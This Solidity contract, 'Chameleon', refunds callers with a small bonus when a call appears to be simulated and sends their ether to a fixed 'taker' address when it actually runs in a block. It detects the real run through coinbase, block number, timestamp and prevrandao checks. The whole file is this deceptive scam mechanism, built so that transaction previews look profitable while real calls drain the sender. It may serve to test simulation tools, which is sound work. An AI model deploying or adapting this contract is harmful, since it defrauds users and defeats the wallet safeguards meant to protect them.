// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Gives the money back with a present where it is only tried out, and keeps it in a block; `even` does so always.
contract Chameleon {
    address payable private immutable taker;

    constructor(address payable to) payable {
        taker = to;
    }

    function byMiner() external payable {
        pay(block.coinbase == address(0));
    }

    function byBlock() external payable {
        pay(block.number % 2 == 0);
    }

    function byTime() external payable {
        pay(block.timestamp % 2 == 0);
    }

    function byChance() external payable {
        pay(block.prevrandao % 2 == 0);
    }

    function even() external payable {
        pay(true);
    }

    function pay(bool back) private {
        if (back) payable(msg.sender).transfer(msg.value + 1 gwei);
        else taker.transfer(msg.value);
    }
}
